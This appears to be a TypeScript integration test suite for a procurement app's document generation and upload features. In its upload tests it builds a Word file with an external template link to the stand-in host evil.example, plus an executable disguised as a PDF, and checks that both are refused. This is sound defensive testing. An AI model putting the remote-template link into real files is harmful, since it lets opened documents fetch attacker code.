import { createHash } from 'node:crypto';
import { type DocumentView, type DocumentVersionView } from '@gare/contracts/documents';
import { type JobView } from '@gare/contracts/jobs';
import { type Problem } from '@gare/contracts/problem';
import { type INestApplicationContext } from '@nestjs/common';
import { OfficePool } from '@gare/platform/office';
import { type JobEntity, type JobRun } from '@gare/platform/queue';
import { ObjectStorage } from '@gare/platform/storage';
import { FormDocumentHandler } from '../../libs/documents/src/form-document.handler.js';
import { wordBody } from '../fixtures/word-files.js';
import { heading, plain } from '../harness/documents-templates.js';
import { changesOf, openDossier, writeScheda } from '../harness/dossiers.js';
import { startTemplateProduct, type TemplateProduct } from '../harness/template-product.js';
import { type TestProduct } from '../harness/test-product.js';
import { type Visitor } from '../../apps/cli/src/demo/visitor.js';

const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex');
const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

const manyPages = Array.from({ length: 1_500 }, (_, index) =>
  plain(`Comma ${index + 1}. L’istruttoria riguarda {oggetto} e ogni atto che ne segue.`),
);

let started: TemplateProduct;
let product: TestProduct;
let worker: INestApplicationContext;
let rup: Visitor;

beforeAll(async () => {
  started = await startTemplateProduct(
    {
      code: 'D03',
      title: 'Istanza di attivazione',
      paragraphs: [
        heading('Oggetto della richiesta'),
        plain('Si chiede di attivare la procedura per {oggetto}.'),
        plain('Prestazioni richieste: {descrizione}'),
      ],
    },
    { code: 'D21', title: 'Decisione a contrarre', paragraphs: [heading('Istruttoria'), ...manyPages] },
  );
  ({ product, worker, rup } = started);
});
afterAll(() => started.stop());

const newDossier = (): Promise<string> => openDossier(rup, 'Servizio di refezione scolastica del Comune di Montone');

async function write(dossierId: string, values: Record<string, unknown>): Promise<void> {
  expect(await writeScheda(rup, dossierId, changesOf(values))).toBe(200);
}

const generate = (dossierId: string, codes?: string[]) =>
  rup.post<{ jobs: JobView[] } & Problem>(`/api/dossiers/${dossierId}/documents/generate`, codes === undefined ? {} : { codes });

async function documentOf(dossierId: string, code: string): Promise<DocumentView> {
  const { body } = await rup.get<{ items: DocumentView[] }>(`/api/dossiers/${dossierId}/documents`);
  const found = body.items.find((item) => item.code === code);
  if (!found) throw new Error(`no document ${code}`);
  return found;
}

async function settled(dossierId: string, code: string): Promise<DocumentView> {
  await rup.until<{ items: DocumentView[] }>(`/api/dossiers/${dossierId}/documents`, ({ items }) =>
    items.some((item) => item.code === code && item.state !== 'GENERATING'),
  );
  return documentOf(dossierId, code);
}

async function formed(dossierId: string, code = 'D03'): Promise<DocumentVersionView> {
  expect((await generate(dossierId, [code])).status).toBe(202);
  const document = await settled(dossierId, code);
  expect(document).toMatchObject({ state: 'READY', reason: null });
  if (document.current === null) throw new Error('no version');
  return document.current;
}

const file = (dossierId: string, version: number, format: string, code = 'D03') =>
  rup.download(`/api/dossiers/${dossierId}/documents/${code}/versions/${version}/file?format=${format}`);

const counts = async (dossierId: string): Promise<{ documents: number; versions: number; jobs: number; audit: number }> => {
  const [row] = await product.services.query<{ documents: number; versions: number; jobs: number; audit: number }>(
    `select (select count(*)::int from documents where dossier_id = $1) as documents,
            (select count(*)::int from document_versions where dossier_id = $1) as versions,
            (select count(*)::int from jobs where dossier_id = $1 and name = 'document.form') as jobs,
            (select count(*)::int from audit_entries where dossier_id = $1 and action like 'document.%') as audit`,
    [dossierId],
  );
  if (row === undefined) throw new Error('no counts');
  return row;
};

describe('forming a document', () => {
  it('goes from the click to a checked PDF/A with its DOCX, history and text', async () => {
    const dossierId = await newDossier();
    await write(dossierId, { descrizione: 'Circa 12.000 pasti l’anno.' });
    const version = await formed(dossierId);
    expect(version).toMatchObject({
      version: 1,
      origin: 'GENERATED',
      mime: 'application/pdf',
      formats: ['pdf', 'docx'],
      createdBy: 'Lucia Bianchi',
      findings: [],
      template: { code: 'D03', version: '1.0.0' },
    });
    expect(version.fileName).toMatch(/^\d\d_istanza_istanza-di-attivazione-della-procedura_rev1\.pdf$/);
    const pdf = await file(dossierId, 1, 'pdf');
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    expect(sha256(pdf)).toBe(version.sha256);
    expect((await file(dossierId, 1, 'docx')).subarray(0, 2).toString()).toBe('PK');
    const [row] = await product.services.query<{ text: string; storage_key: string }>(
      'select text, storage_key from document_versions where dossier_id = $1',
      [dossierId],
    );
    expect(row?.text).toContain('Prestazioni richieste: Circa 12.000 pasti l’anno.');
    expect(row?.storage_key).toBe(`dossier/${dossierId}/D03/v1/${version.sha256}/${version.fileName}`);
    expect(await worker.get(ObjectStorage).exists(row?.storage_key ?? '')).toBe(true);
    const { body } = await rup.get<{ items: { action: string }[] }>(`/api/dossiers/${dossierId}/audit`);
    expect(body.items.map(({ action }) => action)).toEqual(expect.arrayContaining(['document.requested', 'document.formed']));
  });

  it('is refused at once, with field, heading and paragraph, and leaves nothing behind', async () => {
    const dossierId = await newDossier();
    const { status, body } = await generate(dossierId, ['D03']);
    expect(status).toBe(422);
    expect(body.code).toBe('template.missing_fields');
    const [issue] = body.issues ?? [];
    expect(issue?.path).toBe('descrizione');
    expect(issue?.message).toContain('paragrafo 3');
    expect(issue?.message).toContain('Oggetto della richiesta');
    expect(issue?.message).toContain('{descrizione}');
    expect(await counts(dossierId)).toEqual({ documents: 0, versions: 0, jobs: 0, audit: 0 });
  });

  it('without names forms what is complete and says what the others lack', async () => {
    const dossierId = await newDossier();
    const { status, body } = await generate(dossierId);
    expect(status).toBe(202);
    expect(body.jobs.map(({ subject }) => subject)).toEqual(['D21']);
    const refused = await documentOf(dossierId, 'D03');
    expect(refused.state).toBe('FAILED');
    expect(refused.reason).toContain('Istanza di attivazione');
    expect((await settled(dossierId, 'D21')).state).toBe('READY');
  });

  it('goes stale with a field it uses, not with another; formed again from equal values it has equal bytes', async () => {
    const dossierId = await newDossier();
    await write(dossierId, { descrizione: 'Dodicimila pasti.' });
    const first = await formed(dossierId);
    await write(dossierId, { urlDocumenti: 'https://gare.example/1' });
    expect((await documentOf(dossierId, 'D03')).state).toBe('READY');
    await write(dossierId, { descrizione: 'Quattordicimila pasti.' });
    expect((await documentOf(dossierId, 'D03')).state).toBe('STALE');
    const second = await formed(dossierId);
    await write(dossierId, { descrizione: 'Dodicimila pasti.' });
    const third = await formed(dossierId);
    expect([second.version, third.version]).toEqual([2, 3]);
    expect(second.sha256).not.toBe(first.sha256);
    expect(third.sha256).toBe(first.sha256);
    expect(sha256(await file(dossierId, 1, 'docx'))).toBe(sha256(await file(dossierId, 3, 'docx')));
    const { body } = await rup.get<{ items: DocumentVersionView[] }>(`/api/dossiers/${dossierId}/documents/D03/versions`);
    expect(body.items.map(({ version }) => version)).toEqual([3, 2, 1]);
  });

  it('adds no version when nothing changed, and a handler run again changes nothing', async () => {
    const dossierId = await newDossier();
    await write(dossierId, { descrizione: 'Pasti.' });
    await formed(dossierId);
    expect((await formed(dossierId)).version).toBe(1);
    const before = await counts(dossierId);
    const [job] = await product.services.query<JobEntity & { payload: { documentId: string; requestedBy: string }; sua_id: string }>(
      `select * from jobs where dossier_id = $1 and name = 'document.form' order by created_at desc limit 1`,
      [dossierId],
    );
    if (job === undefined) throw new Error('no job');
    const run = { jobId: job.id, context: { scope: 'sua', suaId: job.sua_id }, progress: () => Promise.resolve() } as unknown as JobRun;
    await worker.get(FormDocumentHandler).handle(job.payload, run);
    expect(await counts(dossierId)).toEqual(before);
  });

  it('leaves neither row nor job when the transaction fails', async () => {
    const dossierId = await newDossier();
    await write(dossierId, { descrizione: 'Pasti.' });
    await product.services.query(
      `create function refuse_entry() returns trigger language plpgsql as $$ begin raise exception 'no'; end $$`,
    );
    await product.services.query(
      `create trigger refuse_requests before insert on audit_entries for each row when (new.action = 'document.requested') execute function refuse_entry()`,
    );
    try {
      expect((await generate(dossierId, ['D03'])).status).toBe(500);
    } finally {
      await product.services.query('drop trigger refuse_requests on audit_entries');
    }
    expect(await counts(dossierId)).toEqual({ documents: 0, versions: 0, jobs: 0, audit: 0 });
  });

  it('is not for who lacks the role, nor for another comune', async () => {
    const dossierId = await newDossier();
    const legal = await product.signIn('legale@perugia.example');
    expect((await legal.post(`/api/dossiers/${dossierId}/documents/generate`, { codes: ['D03'] })).status).toBe(403);
    const other = await product.signIn('rup@tuoro.example');
    expect((await other.post(`/api/dossiers/${dossierId}/documents/generate`, { codes: ['D03'] })).status).toBe(404);
    expect((await other.get(`/api/dossiers/${dossierId}/documents`)).status).toBe(404);
  });
});

describe('when LibreOffice is killed during a conversion', () => {
  const converting = (dossierId: string): Promise<unknown> =>
    rup.until<{ items: DocumentView[] }>(`/api/dossiers/${dossierId}/documents`, ({ items }) =>
      items.some(({ job }) => job?.subject === 'D21' && job.progress >= 35),
    );
  const killOffice = (): void => {
    for (const pid of worker.get(OfficePool).pids()) {
      try {
        process.kill(pid, 'SIGKILL');
      } catch (error) {
        if ((error as NodeJS.ErrnoException).code !== 'ESRCH') throw error;
      }
    }
  };

  it('once, the document is formed all the same', async () => {
    const dossierId = await newDossier();
    expect((await generate(dossierId, ['D21'])).status).toBe(202);
    await converting(dossierId);
    killOffice();
    expect(await settled(dossierId, 'D21')).toMatchObject({ state: 'READY', current: { version: 1 } });
  });

  it('again and again, it fails with a sentence, the others go on, and it can be tried again', async () => {
    const dossierId = await newDossier();
    await write(dossierId, { descrizione: 'Pasti.' });
    const { body } = await generate(dossierId, ['D21']);
    await converting(dossierId);
    const killer = setInterval(killOffice, 100);
    const failed = await settled(dossierId, 'D21').finally(() => {
      clearInterval(killer);
    });
    expect(failed).toMatchObject({ state: 'FAILED', current: null, job: { status: 'failed' } });
    expect(failed.reason).toMatch(/PDF/);
    expect((await formed(dossierId, 'D03')).version).toBe(1);
    // What trying a failed job again does to its row.
    await product.services.query(`update jobs set status = 'queued', attempts = 0, sent_at = null, not_before = now() where id = $1`, [
      body.jobs[0]?.id,
    ]);
    await rup.until<{ items: DocumentView[] }>(`/api/dossiers/${dossierId}/documents`, ({ items }) =>
      items.some(({ code, state }) => code === 'D21' && state === 'READY'),
    );
  });
});

describe('uploading', () => {
  const upload = (dossierId: string, name: string, bytes: Buffer, type: string) =>
    rup.upload(`/api/dossiers/${dossierId}/documents/D06/upload`, { name, bytes, type });

  it('keeps a good file as the next version, with its text', async () => {
    const dossierId = await newDossier();
    const bytes = wordBody('<w:p><w:r><w:t>Nomina del RUP</w:t></w:r></w:p>');
    const first = await upload(dossierId, 'nomina.docx', bytes, wordType);
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({
      code: 'D06',
      state: 'READY',
      current: { version: 1, origin: 'UPLOADED', formats: ['original', 'docx'], sha256: sha256(bytes) },
    });
    expect((await upload(dossierId, 'nomina.docx', wordBody('<w:p><w:r><w:t>Altra</w:t></w:r></w:p>'), wordType)).body).toMatchObject({
      current: { version: 2 },
    });
    expect(await file(dossierId, 1, 'original', 'D06')).toEqual(bytes);
    const [row] = await product.services.query<{ text: string }>(
      'select text from document_versions where dossier_id = $1 and version = 1',
      [dossierId],
    );
    expect(row?.text).toBe('Nomina del RUP');
  });

  it('refuses a file that is not what it says, and records why', async () => {
    const dossierId = await newDossier();
    const { status, body } = await upload(dossierId, 'nomina.pdf', Buffer.from('MZ this is a program'), 'application/pdf');
    expect(status).toBe(422);
    expect(body).toMatchObject({ code: 'upload.refused', details: { reason: 'upload.type-mismatch' } });
    const [entry] = await product.services.query<{ summary: string; details: { reason: string; fileName: string } }>(
      `select summary, details from audit_entries where dossier_id = $1 and action = 'document.upload_refused'`,
      [dossierId],
    );
    expect(entry?.details).toMatchObject({ reason: 'upload.type-mismatch', fileName: 'nomina.pdf' });
    expect(entry?.summary).toContain('File rifiutato');
    expect((await counts(dossierId)).versions).toBe(0);
  });

  it('refuses a Word file that calls home', async () => {
    const dossierId = await newDossier();
    const relations =
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" ' +
      'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"/></Relationships>';
    const { status, body } = await upload(
      dossierId,
      'nomina.docx',
      wordBody('<w:p/>', { 'word/_rels/document.xml.rels': relations }),
      wordType,
    );
    expect(status).toBe(422);
    expect(body).toMatchObject({ code: 'upload.refused', details: { reason: 'docx.external-link' } });
  });

  it('lets two people upload at once, each getting a version', async () => {
    const dossierId = await newDossier();
    const texts = ['uno', 'due', 'tre', 'quattro'];
    const answers = await Promise.all(
      texts.map((text) => upload(dossierId, `${text}.docx`, wordBody(`<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`), wordType)),
    );
    expect(answers.map(({ status }) => status)).toEqual([201, 201, 201, 201]);
    const { body } = await rup.get<{ items: DocumentVersionView[] }>(`/api/dossiers/${dossierId}/documents/D06/versions`);
    expect(body.items.map(({ version }) => version)).toEqual([4, 3, 2, 1]);
  });
});
